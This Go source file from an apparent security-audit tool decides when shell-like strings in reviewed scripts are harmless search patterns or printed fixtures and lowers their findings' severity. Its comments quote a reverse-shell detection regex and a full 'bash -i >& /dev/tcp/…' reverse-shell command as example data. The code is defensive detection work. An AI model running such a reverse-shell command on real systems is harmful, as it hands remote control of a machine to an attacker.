package audit

import (
	"path"
	"regexp"
	"strings"
)

// A review or triage script keeps the attacks it looks for as regular
// expressions in its own code: `PATTERNS = {"revshell":
// r"/dev/tcp/|nc -e|socket\.socket\("}` compiled with `re.compile` and
// searched over the files under review. Read as shell, such a literal is
// `nc -e …`, a reverse shell; but nothing runs it. A literal is taken for
// a search pattern only when it is written as a regular expression
// (regexShapeRe: `\.`, `\s*`, `(?:`, `[^`), the script searches text with
// regular expressions, and the script, its literals left out, neither
// runs a command or code nor writes a file: with either, a literal may
// reach a shell or a startup file whatever it looks like.

// searchRunRe matches, in code with its string literals blanked, what
// may hand a literal to a shell or an interpreter beyond patternExecRe:
// a module or function looked up by a name the script computes
// (`__import__`, `importlib`, `getattr`), `pty`, `shell=True`, `compile(`
// and a print into a file.
var searchRunRe = lazyRE(`\b__import__\b|\bimportlib\b|\bgetattr\s*\(|\bpty\b|\bshell\s*=\s*True\b|(?:^|[^.\w])compile\s*\(|\bfile\s*=|\bos\.(?:write|open|rename|replace|link|symlink)\b`)

// searchedLitNote ends the reason of a finding in a search pattern.
const searchedLitNote = " (in a regular expression the script only searches text for: it runs and writes nothing)"

// searchOnlyScript reports whether code c, whose string literals are at
// lits, searches text with regular expressions and, outside its
// literals, runs no command or code and writes no file (write is the
// language's write pattern, pyWrite or jsWrite). c's comments are
// blanked already.
func searchOnlyScript(c string, lits [][]int, write *lazyRegexp) bool {
	code := litsBlanked(c, lits)
	return regexUseRe.MatchString(code) && !patternExecRe.MatchString(code) && !write.MatchString(code) && !searchRunRe.MatchString(code)
}

// litsBlanked returns c with the text inside each string literal of
// lits (offsets of the literal with its quotes) blanked to spaces,
// newlines kept: the code round the literals.
func litsBlanked(c string, lits [][]int) string {
	b := []byte(c)
	for _, m := range lits {
		for i := m[0] + 1; i < m[1]-1; i++ {
			if b[i] != '\n' {
				b[i] = ' '
			}
		}
	}
	return string(b)
}

// searchedLit reports whether a string literal's body is written as a
// regular expression (an escape such as `\.` or `\(`, a group or class
// construct, a repeat), so a search pattern rather than a command.
func searchedLit(body string) bool {
	return regexShapeRe.MatchString(body) && !strings.Contains(body, "\n")
}

// lowerLiteral lowers the findings sc.findings[n:] of one literal to low,
// their reasons ending in note: a search pattern (searchedLitNote), text
// the script looks for in other files, or a printed fixture
// (printedNote).
func lowerLiteral(sc *skillCtx, n int, note string) {
	for i := n; i < len(sc.findings); i++ {
		f := &sc.findings[i]
		if f.Severity > Low {
			f.Severity = Low
			f.Reason = Printable(f.Reason + note)
		}
	}
}

// In a skill that teaches defence (sc.defence), a detector's fixture
// generator keeps the attacks its detector must catch as plain strings (CASES = [("bash-devtcp", True, "bash -i >&
// /dev/tcp/203.0.113.10/4444 0>&1")]) and prints them. Read as shell,
// such a literal is a reverse shell; but a script that, its literals
// left out, runs no command or code, reaches no network and writes only
// to its standard output hands its strings to nobody: its shell-like
// literals are data, low. Unless the skill's instructions pipe the
// script's output into a shell (python3 make.py | sh), which runs them.

// stdoutWrite is a write to the standard output or error, or to a name
// bound to one (out = sys.stdout; out.write).
var stdoutWrite = lazyRE(`\b(?:sys\.)?(?:stdout|stderr)\.write\(|\bprocess\.(?:stdout|stderr)\.write\(`)

// printedNote ends the reason of a finding in a printed literal.
const printedNote = " (a string of a script that runs, sends and writes nothing but its standard output: data it prints)"

// printOnlyScript reports whether the Python or JavaScript script rel
// (comments blanked c, string literals at lits) runs no command or code,
// reaches no network and writes nothing but its standard output, and the
// skill's instructions do not pipe its output into a shell (see above).
func printOnlyScript(sc *skillCtx, rel, c string, lits [][]int, write *lazyRegexp, k fileKind) bool {
	code := litsBlanked(c, lits)
	for _, m := range stdoutAlias.FindAllStringSubmatch(code, 8) {
		code = strings.ReplaceAll(code, m[1]+".write(", "print(")
	}
	code = stdoutWrite.ReplaceAllString(code, "print(")
	code = stdoutFileArg.ReplaceAllString(code, "")
	net := pyNet
	if k == kindJS {
		net = jsNet
	}
	if patternExecRe.MatchString(code) || searchRunRe.MatchString(code) || write.MatchString(code) || net.MatchString(code) ||
		strings.Contains(code, "socket") || strings.Contains(code, "open(") {
		return false
	}
	base := regexp.QuoteMeta(path.Base(rel))
	piped := regexp.MustCompile(base + `[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b`)
	return !piped.MatchString(sc.topic) && !piped.MatchString(sc.instructions)
}

// stdoutFileArg is print's file argument naming the standard output or
// error.
var stdoutFileArg = lazyRE(`,\s*file\s*=\s*sys\.(?:stdout|stderr)\b`)

// stdoutAlias binds a name to the standard output or error: group 1 the
// name.
var stdoutAlias = lazyRE(`(?m)^\s*(\w+)\s*=\s*sys\.(?:stdout|stderr)\s*$`)
